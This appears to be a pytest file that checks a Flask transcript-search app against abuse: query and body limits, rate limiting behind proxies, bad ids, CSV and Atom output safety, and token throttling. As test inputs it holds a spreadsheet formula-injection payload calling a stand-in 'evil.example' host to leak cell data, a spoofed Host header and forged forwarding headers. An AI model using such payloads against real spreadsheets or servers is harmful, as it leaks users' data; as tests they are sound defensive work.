"""The app as an attacker meets it (issue 11): every request does bounded
work whatever its size, one slow request never holds up the others, bad
numbers and stray parameters are 400s or 404s, the limiter's memory is
bounded and knows proxies, and what the app writes out (CSV, Atom) cannot
be turned against its readers."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import threading
import urllib.request
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from catalog import Catalog, Hit, Meeting, Segment, load_settings
from search import SearchIndex
from search.alerts import AlertBook
from search.query import MAX_TERMS
from tests.conftest import catalog_for
from tests.served import serving
from web import create_app
from web.ratelimit import MAX_CLIENTS, RateLimiter, client_key
from web.services import MAX_BODY

TOKEN = "abuse-test-admin-token-93c2"
BEARER = {"Authorization": f"Bearer {TOKEN}"}
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def client(seattle_home: tuple[Path, str]) -> Iterator[FlaskClient]:
    app = create_app(replace(load_settings(seattle_home[0]), admin_token=TOKEN))
    app.testing = True
    with app.test_client() as client:
        yield client


def _home_with(tmp_path: Path, title: str, segments: list[Segment], minilm: object) -> Path:
    """A data directory holding one meeting, indexed with the real MiniLM."""
    home = tmp_path / "home"
    catalog = catalog_for(home)
    meeting = catalog.add_meeting(
        Meeting(title=title, body="Budget Committee", source_url="http://x/y.mp4", status="indexed"),
        None,
        segments,
    )
    assert meeting.id is not None
    index = SearchIndex(catalog, "all-MiniLM-L6-v2", "http://127.0.0.1:8000", embedder=minilm)  # type: ignore[arg-type]
    index.index_meeting(meeting.id, segments)
    catalog.close()
    return home


def _app(home: Path, **settings: object) -> FlaskClient:
    app = create_app(replace(load_settings(home), **settings))
    app.testing = True
    return app.test_client()


# -- 1, 2: bounded work --------------------------------------------------------


def test_the_meeting_page_never_marks_words_for_a_refused_query(client: FlaskClient) -> None:
    normal = client.get("/meetings/1", query_string={"q": "roll"}).get_data(as_text=True)
    assert "<mark>roll</mark>" in normal.lower()
    # Refused for its length, or for its number of terms: the transcript is
    # then shown as it is, not highlighted with thousands of raw words.
    for q in ("roll " + "x" * 600, " ".join(["roll"] + [f"w{i}" for i in range(MAX_TERMS)])):
        page = client.get("/meetings/1", query_string={"q": q})
        html = page.get_data(as_text=True)
        assert page.status_code == 200 and 'class="error"' in html
        assert "<mark>" not in html


def test_queries_with_too_many_terms_or_prefixes_are_refused(client: FlaskClient) -> None:
    prefixes = client.get("/api/search", query_string={"q": " ".join(["a*"] * 166)})
    assert prefixes.status_code == 400 and "prefixes" in prefixes.get_json()["error"]
    terms = client.get("/api/search", query_string={"q": " ".join(f"w{i}" for i in range(MAX_TERMS + 1))})
    assert terms.status_code == 400 and "terms" in terms.get_json()["error"]
    # What people really type still works.
    ok = client.get("/api/search", query_string={"q": "roll* call* executive session"})
    assert ok.status_code == 200


def test_a_saved_search_is_checked_as_a_search_is(client: FlaskClient) -> None:
    response = client.post("/api/alerts", json={"query": " ".join(["ice*"] * 6)}, headers=BEARER)
    assert response.status_code == 400 and "prefixes" in response.get_json()["error"]


def test_an_overlong_address_is_refused_before_it_is_read(client: FlaskClient) -> None:
    response = client.get("/meetings/1", query_string={"q": "x" * 47_000})
    assert response.status_code == 414


def test_one_slow_search_does_not_hold_up_the_others(
    seattle_home: tuple[Path, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # A search held open on purpose stands in for one that is slow; while it
    # is held, other searches and pages must be answered.
    held, release = threading.Event(), threading.Event()
    real_search = SearchIndex.search

    def search(self: SearchIndex, query: object) -> list[Hit]:
        if getattr(query, "text", "") == "hold this one":
            held.set()
            release.wait(60)
        return real_search(self, query)  # type: ignore[arg-type]

    monkeypatch.setattr(SearchIndex, "search", search)
    settings = replace(load_settings(seattle_home[0]), search_rate_limit=0)
    with serving(create_app(settings)) as url:
        slow = threading.Thread(
            target=lambda: urllib.request.urlopen(f"{url}/api/search?q=hold+this+one", timeout=90).read()
        )
        try:
            slow.start()
            assert held.wait(60)
            for path in ("/api/search?q=executive+session", "/api/meetings", "/meetings/1"):
                with urllib.request.urlopen(url + path, timeout=20) as response:
                    assert response.status == 200
            assert slow.is_alive()  # the slow one was still running all along
        finally:
            release.set()
            slow.join(timeout=30)


def test_reads_go_through_connections_that_cannot_write(seattle_home: tuple[Path, str]) -> None:
    import sqlite3

    catalog = Catalog(load_settings(seattle_home[0]).db_path, read_only=True)
    assert catalog.meetings()  # it reads
    with pytest.raises(sqlite3.OperationalError, match="readonly"):
        catalog.conn.execute("DELETE FROM meetings")
    catalog.close()


# -- 3: bodies, the limiter, the speaker index ---------------------------------


def test_a_large_body_is_refused_before_the_token_is_even_checked(client: FlaskClient) -> None:
    response = client.post(
        "/alerts", data=b"token=x&query=" + b"y" * MAX_BODY, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 413


def test_the_server_refuses_a_huge_body_as_it_arrives(seattle_home: tuple[Path, str]) -> None:
    with serving(create_app(load_settings(seattle_home[0])), threads=2) as url:
        with socket.create_connection(("127.0.0.1", int(url.rsplit(":", 1)[1])), timeout=15) as sock:
            # 50 MB announced, 5 bytes sent: the answer must come without the rest.
            sock.sendall(
                b"POST /alerts HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 52428800\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n\r\ntoken"
            )
            answer = sock.recv(200)
    assert answer.startswith(b"HTTP/1.1 413")


def test_the_limiter_keeps_a_bounded_number_of_clients() -> None:
    limiter = RateLimiter(60)
    for n in range(MAX_CLIENTS + 5000):
        limiter.allow(f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}")
    assert len(limiter) == MAX_CLIENTS


def test_ipv6_clients_count_as_their_64(tmp_path: Path, minilm: object) -> None:
    assert client_key("2001:db8:1:2::1", None, []) == client_key("2001:db8:1:2:ffff::9", None, [])
    assert client_key("2001:db8:1:2::1", None, []) != client_key("2001:db8:1:3::1", None, [])
    assert client_key("::ffff:192.0.2.7", None, []) == "192.0.2.7"
    home = _home_with(tmp_path, "Budget hearing", [Segment(0, 2, "The budget passed.")], minilm)
    client = _app(home, search_rate_limit=4)  # a burst of one
    first = client.get("/api/search?q=budget", environ_base={"REMOTE_ADDR": "2001:db8:1:2::1"})
    second = client.get("/api/search?q=budget", environ_base={"REMOTE_ADDR": "2001:db8:1:2::abcd"})
    other = client.get("/api/search?q=budget", environ_base={"REMOTE_ADDR": "2001:db8:9:9::1"})
    assert (first.status_code, second.status_code, other.status_code) == (200, 429, 200)


def test_forwarded_for_counts_only_from_a_trusted_proxy(tmp_path: Path, minilm: object) -> None:
    home = _home_with(tmp_path, "Budget hearing", [Segment(0, 2, "The budget passed.")], minilm)
    client = _app(home, search_rate_limit=4, trusted_proxies="127.0.0.1, 10.1.0.0/16")

    def search(remote: str, forwarded: str) -> int:
        return client.get(
            "/api/search?q=budget",
            environ_base={"REMOTE_ADDR": remote},
            headers={"X-Forwarded-For": forwarded},
        ).status_code

    # Behind the proxy, each reader has a bucket of their own...
    assert [search("127.0.0.1", f"198.51.100.{n}") for n in range(3)] == [200, 200, 200]
    # ...through a chain of trusted proxies, the first untrusted hop counts...
    assert search("127.0.0.1", "203.0.113.5, 10.1.2.3") == 200
    assert search("127.0.0.1", "198.51.100.99, 203.0.113.5, 10.1.2.3") == 429
    # ...and anyone else writing the header is still one client.
    assert [search("192.0.2.50", f"198.51.100.{n}") for n in (10, 11)] == [200, 429]


def test_the_meeting_page_reads_speakers_through_an_index(seattle_home: tuple[Path, str]) -> None:
    from catalog.speakers import SpeakerBook

    catalog = catalog_for(seattle_home[0])
    statements: list[str] = []
    catalog.conn.set_trace_callback(statements.append)
    assert SpeakerBook(catalog.conn).speakers(1)
    catalog.conn.set_trace_callback(None)
    # The statement as run, with its parameter inlined.
    plan = catalog.conn.execute("EXPLAIN QUERY PLAN " + statements[-1]).fetchall()
    details = [row[3] for row in plan]
    assert not any(d.startswith("SCAN s") for d in details), details
    assert any("segments_speaker" in d for d in details), details
    catalog.close()


# -- 4: numbers and stray parameters -------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        {"q": "roll", "limit": "²"},
        {"q": "roll", "limit": "１０"},
        {"q": "roll", "meeting": "¹"},
        {"q": "roll", "page": "9" * 5000},
        {"q": "roll", "meeting": "9" * 30},
        {"q": "roll", "limit": " 5"},
    ],
)
def test_bad_numbers_are_400s(client: FlaskClient, args: dict[str, str]) -> None:
    api = client.get("/api/search", query_string=args)
    assert api.status_code == 400 and api.get_json()["error"]
    page = client.get("/", query_string=args)
    assert page.status_code == 200 and 'class="error"' in page.get_data(as_text=True)


@pytest.mark.parametrize(
    "method, path",
    [
        ("DELETE", "/api/alerts/6374357778052202283139072"),
        ("GET", "/api/meetings/99999999999999999999"),
        ("GET", "/meetings/18446744073709551616"),
        ("GET", "/meetings/9223372036854775807"),
        ("POST", "/api/meetings/99999999999999999999/speakers/SPEAKER_1"),
        ("GET", "/meetings/１"),
    ],
)
def test_huge_ids_in_paths_are_404s(client: FlaskClient, method: str, path: str) -> None:
    response = client.open(path, method=method, headers=BEARER, json={"name": "A"})
    assert response.status_code == 404


@pytest.mark.parametrize("extra", ["endpoint=x", "_method=POST", "_external=1", "_anchor=x", "_scheme=ftp"])
def test_stray_parameters_never_reach_url_for(client: FlaskClient, extra: str) -> None:
    response = client.get(f"/?q=council&limit=1&{extra}")
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and 'rel="next"' in html
    links = re.findall(r'href="([^"]*)"', html)
    assert not [link for link in links if extra.split("=")[0] + "=" in link]


# -- 12: CSV ---------------------------------------------------------------------


def test_csv_cells_never_start_a_formula(tmp_path: Path, minilm: object) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Budget")'
    home = _home_with(tmp_path, title, [Segment(0, 3, "-2+3 the budget passed, said @everyone")], minilm)
    client = _app(home, search_rate_limit=0)
    response = client.get("/api/search", query_string={"q": "budget", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert rows and rows[0]["meeting_title"] == "'" + title
    assert rows[0]["text"].startswith("'-2+3")
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
    assert float(rows[0]["start"]) >= 0  # numbers stay numbers


# -- 8, 13, 16: the feed ------------------------------------------------------------


def _feed_home(tmp_path: Path, minilm: object, text: str) -> tuple[Path, str]:
    """A saved search with one alert quoting ``text``. An alert keeps its hit
    as JSON, which carries even a lone surrogate (SQLite text cannot)."""
    home = _home_with(tmp_path, "Budget hearing", [Segment(0, 3, "The budget passed.")], minilm)
    catalog = catalog_for(home)
    book = AlertBook(catalog.conn)
    saved = book.add("budget", "atom")
    hit = Hit(
        meeting_id=1,
        meeting_title="Budget\x0c hearing",
        meeting_date="2024-05-01",
        body="Budget Committee",
        start=0.0,
        end=3.0,
        speaker="Jane\x01 Doe\ufffe",
        text=text,
        score=1.0,
        url="http://x/y.mp4#t=0",
    )
    assert book.record(saved, 1, [hit]) == 1
    catalog.close()
    return home, saved.feed_token


def test_the_feed_is_xml_whatever_the_transcript_holds(tmp_path: Path, minilm: object) -> None:
    home, token = _feed_home(tmp_path, minilm, "The budget\x0b passed\x00 \ud800 <b>&amp;</b>\uffff")
    response = _app(home).get(f"/alerts/{token}/feed.atom")
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    feed = ET.fromstring(response.data)  # strict XML: one forbidden character fails it
    entry = feed.find(f"{ATOM}entry")
    assert entry is not None
    summary = entry.findtext(f"{ATOM}summary") or ""
    assert "The budget passed" in summary and "<b>&amp;</b>" in summary
    assert "Jane Doe" in (entry.findtext(f"{ATOM}title") or "")


def test_the_feed_names_itself_from_base_url_not_the_host_header(tmp_path: Path, minilm: object) -> None:
    home, token = _feed_home(tmp_path, minilm, "The budget passed.")
    client = _app(home, base_url="https://onrecord.example.org/")
    response = client.get(f"/alerts/{token}/feed.atom", headers={"Host": "evil.example"})
    feed = ET.fromstring(response.data)
    expected = f"https://onrecord.example.org/alerts/{token}/feed.atom"
    assert feed.findtext(f"{ATOM}id") == expected
    assert [link.get("href") for link in feed.findall(f"{ATOM}link") if link.get("rel") == "self"] == [
        expected
    ]
    assert b"evil.example" not in response.data
    assert client.get("/alerts/1/feed.atom").status_code == 404
    assert client.get(f"/alerts/{token[:-1]}/feed.atom").status_code == 404


def test_the_alerts_page_shows_nothing_private_without_the_token(tmp_path: Path, minilm: object) -> None:
    home, token = _feed_home(tmp_path, minilm, "The budget passed.")
    for admin_token in ("", TOKEN):
        page = _app(home, admin_token=admin_token).get("/alerts").get_data(as_text=True)
        assert token not in page and "budget" not in page.split("<h1>")[1].split("<h2>")[0].lower()
    listed = _app(home, admin_token=TOKEN).post("/alerts/list", data={"token": TOKEN})
    assert token in listed.get_data(as_text=True)


# -- 14: the admin token ----------------------------------------------------------


def test_a_short_admin_token_allows_no_writes(seattle_home: tuple[Path, str]) -> None:
    short = _app(seattle_home[0], admin_token="secret")
    response = short.post("/api/alerts", json={"query": "roll"}, headers={"Authorization": "Bearer secret"})
    assert response.status_code == 403 and "at least 16" in response.get_json()["error"]
    assert 'name="token"' not in short.get("/meetings/1").get_data(as_text=True)


def test_wrong_tokens_are_throttled(seattle_home: tuple[Path, str], tmp_path: Path) -> None:
    import shutil

    home = tmp_path / "home"
    shutil.copytree(seattle_home[0], home)
    client = _app(home, admin_token=TOKEN)
    wrong = {"Authorization": "Bearer guess"}
    codes = [client.post("/api/alerts", json={"query": "roll"}, headers=wrong).status_code for _ in range(7)]
    assert codes[:5] == [403] * 5 and codes[5:] == [429, 429]
    # Guessing right now does not help: the guesses are not even compared.
    right = client.post("/api/alerts", json={"query": "roll"}, headers=BEARER)
    assert right.status_code == 429 and int(right.headers["Retry-After"]) >= 1
    # Another client is not held up by this one's guesses.
    other = client.post(
        "/api/alerts", json={"query": "roll"}, headers=BEARER, environ_base={"REMOTE_ADDR": "192.0.2.9"}
    )
    assert other.status_code == 201, json.dumps(other.get_json())


def test_concurrent_searches_share_batched_embeddings_and_get_their_own(minilm: object) -> None:
    from web.services import SharedEmbedder

    shared = SharedEmbedder("all-MiniLM-L6-v2")
    shared._loaded = minilm  # type: ignore[assignment]  # the session's real MiniLM
    texts = ["call the roll", "executive session", "adopt the agenda", "legal monitor"] * 4
    got: dict[int, object] = {}
    threads = [
        threading.Thread(
            target=lambda i=i: got.__setitem__(i, shared.embed_batch([texts[i], texts[i][::-1]]))
        )
        for i in range(len(texts))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    import numpy as np

    for i, rows in got.items():
        alone = minilm.embed_batch([texts[i], texts[i][::-1]])  # type: ignore[attr-defined]
        assert np.allclose(rows, alone, atol=1e-5)
